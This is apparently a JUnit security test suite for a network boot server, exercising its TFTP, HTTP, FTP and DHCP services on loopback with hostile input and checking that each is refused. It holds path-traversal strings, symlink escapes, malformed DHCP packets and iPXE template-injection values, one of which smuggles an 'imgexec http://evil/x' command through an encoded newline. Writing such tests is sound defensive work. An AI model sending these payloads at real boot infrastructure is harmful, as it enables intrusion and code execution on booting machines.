package io.rowfs.boot;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.netty.channel.EventLoopGroup;
import io.rowfs.boot.dhcp.BootFiles;
import io.rowfs.boot.dhcp.DhcpBytes;
import io.rowfs.boot.dhcp.DhcpConfig;
import io.rowfs.boot.dhcp.DhcpMode;
import io.rowfs.boot.dhcp.DhcpServer;
import io.rowfs.boot.files.BootRoot;
import io.rowfs.boot.ftp.FtpBootServer;
import io.rowfs.boot.http.HttpBootServer;
import io.rowfs.boot.tftp.TftpConfig;
import io.rowfs.boot.tftp.TftpServer;
import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStream;
import java.io.InputStreamReader;
import java.io.OutputStream;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.Inet4Address;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.concurrent.TimeUnit;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.dhcp4java.DHCPConstants;
import org.dhcp4java.DHCPPacket;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Hostile input against all four boot services at once, on 127.0.0.1: traversal by {@code ..},
 * absolute, percent-encoded and symlinked names over TFTP, HTTP and FTP; oversized TFTP requests;
 * DHCP packets with cut options and a message type of the wrong length; iPXE template injection.
 * Each case asserts the exact reply (or that there is none) and then that the same service still
 * serves a normal client.
 */
class HostileInputTest {
    private static final InetAddress LO = InetAddress.getLoopbackAddress();

    @TempDir
    static Path dir;
    static Path root;
    static Path outside;
    static byte[] small;
    static EventLoopGroup group;
    static TftpServer tftp;
    static HttpBootServer http;
    static FtpBootServer ftp;
    static DhcpServer dhcp;
    static DatagramSocket dhcpClient;
    static int tftpPort;
    static int httpPort;
    static int ftpPort;
    static int dhcpPort;

    @BeforeAll
    static void start() throws Exception {
        root = Files.createDirectory(dir.resolve("root"));
        outside = Files.createDirectory(dir.resolve("outside"));
        Files.writeString(outside.resolve("secret"), "SECRET OUTSIDE THE ROOT");
        Files.createDirectory(root.resolve("sub"));
        small = new byte[700];
        new Random(5).nextBytes(small);
        Files.write(root.resolve("sub/small.bin"), small);
        Files.writeString(root.resolve("boot.ipxe"), "#!ipxe\nkernel {{http}}/vmlinuz mac={{mac}} arch={{arch}}\nboot\n");
        Files.createSymbolicLink(root.resolve("filelink"), outside.resolve("secret"));
        Files.createSymbolicLink(root.resolve("dirlink"), outside);
        Files.createSymbolicLink(root.resolve("sublink"), root.resolve("sub"));

        BootRoot bootRoot = new BootRoot(root);
        group = Transports.group(2);
        tftp = new TftpServer(bootRoot, TftpConfig.defaults(), group);
        tftpPort = tftp.start(new InetSocketAddress(LO, 0)).getPort();
        http = new HttpBootServer(bootRoot, new BootClients(), group);
        httpPort = http.start(new InetSocketAddress(LO, 0)).getPort();
        ftp = new FtpBootServer(bootRoot);
        try (ServerSocket s = new ServerSocket(0, 1, LO)) {
            ftpPort = s.getLocalPort();
        }
        ftp.start(new InetSocketAddress(LO, ftpPort), "0");
        dhcpClient = new DatagramSocket(new InetSocketAddress(LO, 0));
        dhcpClient.setSoTimeout(1000);
        Inet4Address lo4 = (Inet4Address) InetAddress.getByName("127.0.0.1");
        DhcpConfig config = new DhcpConfig(DhcpMode.FULL, null, lo4, (Inet4Address) InetAddress.getByName("255.0.0.0"),
                (Inet4Address) InetAddress.getByName("127.0.0.100"), (Inet4Address) InetAddress.getByName("127.0.0.110"),
                Map.of(), List.of(), List.of(), null, BootFiles.defaults(), httpPort, Duration.ofHours(1),
                Duration.ofSeconds(60), Duration.ofMinutes(10), null, 0, dhcpClient.getLocalPort());
        dhcp = new DhcpServer(config, group, new BootClients(), Clock.systemUTC());
        dhcpPort = dhcp.start();
    }

    @AfterAll
    static void stop() throws Exception {
        dhcp.close();
        dhcpClient.close();
        ftp.close();
        http.close();
        tftp.close();
        group.shutdownGracefully(0, 1, TimeUnit.SECONDS).syncUninterruptibly();
    }

    // ---- TFTP ----

    private static byte[] rrq(String name) {
        byte[] n = name.getBytes(StandardCharsets.ISO_8859_1);
        ByteBuffer b = ByteBuffer.allocate(2 + n.length + 1 + 6);
        b.putShort((short) 1).put(n).put((byte) 0).put("octet".getBytes(StandardCharsets.US_ASCII)).put((byte) 0);
        return b.array();
    }

    private static byte[] tftpError(int code, String message) {
        byte[] m = message.getBytes(StandardCharsets.US_ASCII);
        ByteBuffer b = ByteBuffer.allocate(5 + m.length);
        b.putShort((short) 5).putShort((short) code).put(m).put((byte) 0);
        return b.array();
    }

    /** Sends {@code request} from a fresh port; the first reply, or null after 1 s. */
    private static DatagramPacket tftpAsk(DatagramSocket s, byte[] request) throws IOException {
        s.setSoTimeout(1000);
        s.send(new DatagramPacket(request, request.length, LO, tftpPort));
        DatagramPacket reply = new DatagramPacket(new byte[2048], 2048);
        try {
            s.receive(reply);
            return reply;
        } catch (SocketTimeoutException e) {
            return null;
        }
    }

    private static byte[] bytes(DatagramPacket p) {
        return Arrays.copyOfRange(p.getData(), p.getOffset(), p.getOffset() + p.getLength());
    }

    private static void tftpStillServes() throws IOException {
        try (DatagramSocket s = new DatagramSocket(new InetSocketAddress(LO, 0))) {
            DatagramPacket p = tftpAsk(s, rrq("sub/small.bin"));
            byte[] got = new byte[0];
            for (int block = 1; p != null; block++) {
                byte[] b = bytes(p);
                assertEquals(3, ((b[0] & 0xFF) << 8) | (b[1] & 0xFF), "DATA");
                assertEquals(block, ((b[2] & 0xFF) << 8) | (b[3] & 0xFF));
                got = concat(got, Arrays.copyOfRange(b, 4, b.length));
                byte[] ack = {0, 4, b[2], b[3]};
                s.send(new DatagramPacket(ack, 4, p.getSocketAddress()));
                if (b.length - 4 < 512) {
                    break;
                }
                p = new DatagramPacket(new byte[2048], 2048);
                s.receive(p);
            }
            assertArrayEquals(small, got, "TFTP still serves a normal client");
        }
    }

    @Test
    void tftpTraversalAndOversizedRequests() throws Exception {
        String secret = outside.resolve("secret").toString();
        Object[][] cases = {
            {"../secret", tftpError(2, "Access violation")},
            {"sub/../../outside/secret", tftpError(2, "Access violation")},
            {"..\\outside\\secret", tftpError(2, "Access violation")},
            {"/../outside/secret", tftpError(2, "Access violation")},
            {"filelink", tftpError(2, "Access violation")},
            {"dirlink/secret", tftpError(2, "Access violation")},
            {"%2e%2e/outside/secret", tftpError(1, "File not found")}, // TFTP names are not URL-encoded
            {secret, tftpError(1, "File not found")}, // absolute names are taken relative to the root
            {"sub", tftpError(1, "File not found")},
        };
        for (Object[] c : cases) {
            try (DatagramSocket s = new DatagramSocket(new InetSocketAddress(LO, 0))) {
                DatagramPacket reply = tftpAsk(s, rrq((String) c[0]));
                assertArrayEquals((byte[]) c[1], reply == null ? null : bytes(reply), (String) c[0]);
            }
            tftpStillServes();
        }
        // through a symlink that stays inside the root is fine
        try (DatagramSocket s = new DatagramSocket(new InetSocketAddress(LO, 0))) {
            DatagramPacket reply = tftpAsk(s, rrq("sublink/small.bin"));
            assertEquals(3, bytes(reply)[1], "DATA through an inside symlink");
            s.send(new DatagramPacket(tftpError(0, "done"), tftpError(0, "done").length, reply.getSocketAddress()));
        }
        // oversized: longer than any request (RFC 1350 fits one 512-byte packet) is dropped unanswered
        for (int size : new int[] {1025, 1500, 8000, 65000}) {
            byte[] big = rrq("a".repeat(size));
            try (DatagramSocket s = new DatagramSocket(new InetSocketAddress(LO, 0))) {
                s.setSendBufferSize(1 << 17);
                assertNull(tftpAsk(s, big), "request of " + big.length + " bytes");
            }
            tftpStillServes();
        }
    }

    // ---- HTTP ----

    private static String httpRaw(String requestLine) throws IOException {
        try (Socket s = new Socket(LO, httpPort)) {
            s.setSoTimeout(5000);
            OutputStream out = s.getOutputStream();
            out.write((requestLine + "\r\nHost: x\r\n\r\n").getBytes(StandardCharsets.ISO_8859_1));
            out.flush();
            return new String(s.getInputStream().readAllBytes(), StandardCharsets.ISO_8859_1);
        }
    }

    private static String statusLine(String reply) {
        return reply.substring(0, reply.indexOf("\r\n"));
    }

    private static String body(String reply) {
        return reply.substring(reply.indexOf("\r\n\r\n") + 4);
    }

    private static void httpStillServes() throws IOException {
        String r = httpRaw("GET /sub/small.bin HTTP/1.0");
        assertEquals("HTTP/1.1 200 OK", statusLine(r));
        assertArrayEquals(small, body(r).getBytes(StandardCharsets.ISO_8859_1), "HTTP still serves a normal client");
    }

    @Test
    void httpTraversalAndTemplateInjection() throws Exception {
        String forbidden = "HTTP/1.1 403 Forbidden";
        String notFound = "HTTP/1.1 404 Not Found";
        String[][] cases = {
            {"/../outside/secret", forbidden, "403 Forbidden\n"},
            {"/sub/../../outside/secret", forbidden, "403 Forbidden\n"},
            {"/%2e%2e/outside/secret", forbidden, "403 Forbidden\n"},
            {"/%2E%2E%2Foutside%2Fsecret", forbidden, "403 Forbidden\n"},
            {"/..%5coutside%5csecret", forbidden, "403 Forbidden\n"},
            {"/filelink", forbidden, "403 Forbidden\n"},
            {"/dirlink/secret", forbidden, "403 Forbidden\n"},
            {outside.resolve("secret").toString(), notFound, "404 Not Found\n"},
            {"/sub", notFound, "404 Not Found\n"},
            {"/boot.ipxe?mac=%0aimgexec%20http://evil/x", "HTTP/1.1 400 Bad Request",
                "400 Bad Request: mac must look like 52:54:00:12:34:56\n"},
            {"/boot.ipxe?mac=52:54:00:12:34:56%0d%0ashell", "HTTP/1.1 400 Bad Request",
                "400 Bad Request: mac must look like 52:54:00:12:34:56\n"},
            {"/boot.ipxe?arch=%0ashell", "HTTP/1.1 400 Bad Request",
                "400 Bad Request: arch must be 1 to 32 of A-Z a-z 0-9 - _\n"},
            {"/boot.ipxe?arch=${net0/mac}", "HTTP/1.1 400 Bad Request",
                "400 Bad Request: arch must be 1 to 32 of A-Z a-z 0-9 - _\n"},
        };
        for (String[] c : cases) {
            String r = httpRaw("GET " + c[0] + " HTTP/1.0");
            assertEquals(c[1], statusLine(r), c[0]);
            assertEquals(c[2], body(r), c[0]);
            httpStillServes();
        }
        String r = httpRaw("GET /boot.ipxe?mac=52-54-00-AB-CD-EF&arch=efi64 HTTP/1.0");
        assertEquals("#!ipxe\nkernel http://127.0.0.1:" + httpPort + "/vmlinuz mac=52:54:00:ab:cd:ef arch=efi64\nboot\n",
                body(r));
    }

    // ---- FTP ----

    /** A minimal FTP client (RFC 959) that speaks over one control connection. */
    private static final class Ftp implements AutoCloseable {
        final Socket control;
        final BufferedReader in;
        final OutputStream out;

        Ftp() throws IOException {
            control = new Socket(LO, ftpPort);
            control.setSoTimeout(5000);
            in = new BufferedReader(new InputStreamReader(control.getInputStream(), StandardCharsets.ISO_8859_1));
            out = control.getOutputStream();
            reply();
            assertTrue(command("USER anonymous").startsWith("331"));
            assertTrue(command("PASS test@").startsWith("230"));
            assertTrue(command("TYPE I").startsWith("200"));
        }

        /** The final line of the next reply (multi-line replies are read through). */
        String reply() throws IOException {
            String line = in.readLine();
            if (line != null && line.length() > 3 && line.charAt(3) == '-') {
                String end = line.substring(0, 3) + " ";
                do {
                    line = in.readLine();
                } while (line != null && !line.startsWith(end));
            }
            return line;
        }

        String command(String c) throws IOException {
            out.write((c + "\r\n").getBytes(StandardCharsets.ISO_8859_1));
            out.flush();
            return reply();
        }

        /** RETR over a passive connection: the bytes, or null with {@code last} holding the refusal. */
        byte[] retrieve(String name, String[] last) throws IOException {
            String pasv = command("PASV");
            Matcher m = Pattern.compile("\\((\\d+),(\\d+),(\\d+),(\\d+),(\\d+),(\\d+)\\)").matcher(pasv);
            assertTrue(m.find(), pasv);
            int port = Integer.parseInt(m.group(5)) * 256 + Integer.parseInt(m.group(6));
            try (Socket data = new Socket(LO, port)) {
                data.setSoTimeout(5000);
                String first = command("RETR " + name);
                last[0] = first;
                if (!first.startsWith("150")) {
                    return null;
                }
                InputStream d = data.getInputStream();
                byte[] got = d.readAllBytes();
                last[0] = reply();
                return got;
            }
        }

        @Override
        public void close() throws IOException {
            control.close();
        }
    }

    private static void ftpStillServes() throws IOException {
        try (Ftp f = new Ftp()) {
            String[] last = new String[1];
            assertArrayEquals(small, f.retrieve("sub/small.bin", last), "FTP still serves a normal client");
            assertTrue(last[0].startsWith("226"), last[0]);
        }
    }

    @Test
    void ftpTraversalAndSymlinks() throws Exception {
        String[][] retrieve = { // name sent, virtual path in the reply (.. stops at / as in a chroot)
            {"filelink", "/filelink"},
            {"dirlink/secret", "/dirlink/secret"},
            {"../outside/secret", "/outside/secret"},
            {"/../outside/secret", "/outside/secret"},
            {"sub/../../outside/secret", "/outside/secret"},
            {"%2e%2e/outside/secret", "/%2e%2e/outside/secret"},
            {outside.resolve("secret").toString(), outside.resolve("secret").toString()},
        };
        for (String[] c : retrieve) {
            try (Ftp f = new Ftp()) {
                String[] last = new String[1];
                assertNull(f.retrieve(c[0], last), c[0]);
                assertEquals("550 " + c[1] + ": No such file or directory.", last[0], c[0]);
            }
            ftpStillServes();
        }
        try (Ftp f = new Ftp()) {
            assertEquals("550 No such directory.", f.command("CWD dirlink"));
            assertEquals("257 \"/\" is current directory.", f.command("PWD"));
            assertEquals("550 No such directory.", f.command("CWD ../outside"));
            assertEquals("257 \"/\" is current directory.", f.command("PWD"));
            assertEquals("550 No such directory.", f.command("CWD " + outside));
            assertEquals("213 700", f.command("SIZE sublink/small.bin"));
            assertTrue(f.command("SIZE filelink").startsWith("550 "));
            assertTrue(f.command("MDTM dirlink/secret").startsWith("550 "));
            assertEquals("250 Directory changed to /sublink", f.command("CWD sublink"));
            String[] last = new String[1];
            assertArrayEquals(small, f.retrieve("small.bin", last));
            assertEquals("250 Directory changed to /", f.command("CWD .."));
            assertEquals("450 No permission to delete /sub/small.bin.", f.command("DELE sub/small.bin"), "read-only");
        }
        ftpStillServes();
    }

    // ---- DHCP ----

    private static byte[] inform(int xid) {
        DHCPPacket p = new DHCPPacket();
        p.setOp(DHCPConstants.BOOTREQUEST);
        p.setHtype((byte) 1);
        p.setHlen((byte) 6);
        p.setXid(xid);
        p.setChaddrHex("525400123456");
        p.setCiaddrRaw(new byte[] {127, 0, 0, 1});
        p.setDHCPMessageType(DHCPConstants.DHCPINFORM);
        return p.serialize();
    }

    private static DatagramPacket dhcpAsk(byte[] packet) throws IOException {
        dhcpClient.send(new DatagramPacket(packet, packet.length, LO, dhcpPort));
        DatagramPacket reply = new DatagramPacket(new byte[2048], 2048);
        try {
            dhcpClient.receive(reply);
            return reply;
        } catch (SocketTimeoutException e) {
            return null;
        }
    }

    private static void dhcpStillServes(int xid) throws IOException {
        DatagramPacket reply = dhcpAsk(inform(xid));
        assertTrue(reply != null, "DHCP still answers an INFORM");
        DHCPPacket ack = DHCPPacket.getPacket(reply.getData(), 0, reply.getLength(), true);
        assertEquals(DHCPConstants.DHCPACK, ack.getDHCPMessageType());
        assertEquals(xid, ack.getXid());
    }

    @Test
    void dhcpCutOptionsAndMessageTypesOfTheWrongLength() throws Exception {
        byte[] good = inform(1);
        List<byte[]> hostile = List.of(
                DhcpBytes.withMessageType(good, new byte[0]),
                DhcpBytes.withMessageType(good, new byte[] {8, 0, 0, 0}),
                DhcpBytes.withTruncatedOption(good, 93, 200, 3),
                DhcpBytes.withTruncatedOption(good, 53, 1, 0),
                Arrays.copyOf(good, 241),
                Arrays.copyOf(good, 100));
        long before = dhcp.malformedRequests();
        int xid = 100;
        for (byte[] h : hostile) {
            assertNull(dhcpAsk(h), "no reply to a hostile packet of " + h.length + " bytes");
            dhcpStillServes(xid++);
        }
        assertEquals(hostile.size(), dhcp.malformedRequests() - before, "every hostile packet is counted");
    }

    private static byte[] concat(byte[] a, byte[] b) {
        byte[] c = Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, c, a.length, b.length);
        return c;
    }
}
